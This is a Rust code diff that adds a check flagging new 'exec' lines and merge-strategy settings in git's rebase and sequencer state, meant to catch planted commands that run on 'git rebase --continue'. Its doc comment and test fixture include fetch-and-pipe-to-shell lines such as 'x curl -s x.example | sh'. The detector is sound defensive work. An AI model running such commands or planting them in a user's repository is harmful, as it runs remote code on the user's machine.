@@ -209,6 +209,76 @@ pub(crate) fn plan(root: &Path, writes: GitWrites) -> io::Result<GitPlan> {
     Ok(plan)
 }
 
+/// The states git resumes with `--continue` (`git rebase`, `git
+/// cherry-pick`, `git revert`), and the files in each that choose what git
+/// runs then.
+const RESUMABLE: &[(&str, &[&str])] = &[
+    (
+        "rebase-merge",
+        &["git-rebase-todo", "strategy", "strategy_opts"],
+    ),
+    ("sequencer", &["todo", "opts"]),
+];
+
+/// What in the resumable states of `git_dir` would make git run a program
+/// at the next `--continue`: each todo list's `exec` lines and each merge
+/// strategy choice, as (state directory, the line).
+///
+/// In `"commits"` mode the command may write a git directory, so it could
+/// leave `exec curl … | sh` in `rebase-merge/git-rebase-todo` (or a
+/// strategy naming a `git-merge-*` program it planted on `PATH`) for the
+/// user to run with `git rebase --continue` on the host.
+pub(crate) fn resumable_programs(git_dir: &Path) -> Vec<(PathBuf, String)> {
+    let mut out = Vec::new();
+    for (state, files) in RESUMABLE {
+        let dir = git_dir.join(state);
+        for file in *files {
+            let Ok(text) = fs::read(dir.join(file)) else {
+                continue;
+            };
+            let text = String::from_utf8_lossy(&text);
+            let is_todo = file.ends_with("todo");
+            for line in text.lines() {
+                let line = line.trim();
+                let first = line
+                    .split(|c: char| c.is_ascii_whitespace())
+                    .next()
+                    .unwrap_or_default()
+                    .to_ascii_lowercase();
+                let runs = if is_todo {
+                    first == "exec" || first == "x"
+                } else {
+                    // `strategy`, `strategy_opts`: any content; `opts`: the
+                    // strategy keys of its config-format text.
+                    !line.is_empty()
+                        && (*file != "opts" || line.to_ascii_lowercase().contains("strategy"))
+                };
+                if runs {
+                    out.push((dir.clone(), format!("{file}: {line}")));
+                }
+            }
+        }
+    }
+    out
+}
+
+/// The resumable states below `dirs` that gained a program to run since
+/// `before` was taken, with the first new line as the reason.
+pub(crate) fn new_resumable_programs(
+    dirs: &[PathBuf],
+    before: &[(PathBuf, String)],
+) -> Vec<(PathBuf, String)> {
+    let mut out: Vec<(PathBuf, String)> = Vec::new();
+    for dir in dirs {
+        for item in resumable_programs(dir) {
+            if !before.contains(&item) && !out.iter().any(|(d, _)| *d == item.0) {
+                out.push(item);
+            }
+        }
+    }
+    out
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -219,6 +289,52 @@ mod tests {
         }
         fs::write(dir.join(".git/config"), "[core]\n").unwrap();
         fs::write(dir.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    }
+
+    #[test]
+    fn new_exec_lines_in_a_rebase_todo_are_found() {
+        let t = tempfile::tempdir().unwrap();
+        let g = t.path().join(".git");
+        fs::create_dir_all(g.join("rebase-merge")).unwrap();
+        fs::create_dir_all(g.join("sequencer")).unwrap();
+        let todo = g.join("rebase-merge/git-rebase-todo");
+        fs::write(
+            &todo,
+            "pick 1234 one\nexec cargo test\n# exec in a comment\n",
+        )
+        .unwrap();
+        fs::write(
+            g.join("sequencer/opts"),
+            "[options]\n\tsigned-off-by = true\n",
+        )
+        .unwrap();
+        let before = resumable_programs(&g);
+        assert_eq!(
+            before,
+            vec![(
+                g.join("rebase-merge"),
+                "git-rebase-todo: exec cargo test".into()
+            )]
+        );
+        // Nothing new: the user's own exec line stays.
+        assert!(new_resumable_programs(std::slice::from_ref(&g), &before).is_empty());
+        fs::write(
+            &todo,
+            "pick 1234 one\nexec cargo test\n  x curl -s x.example | sh\n",
+        )
+        .unwrap();
+        fs::write(g.join("sequencer/opts"), "[options]\n\tstrategy = evil\n").unwrap();
+        let new = new_resumable_programs(std::slice::from_ref(&g), &before);
+        assert_eq!(
+            new,
+            vec![
+                (
+                    g.join("rebase-merge"),
+                    "git-rebase-todo: x curl -s x.example | sh".into()
+                ),
+                (g.join("sequencer"), "opts: strategy = evil".into()),
+            ]
+        );
     }
 
     #[test]
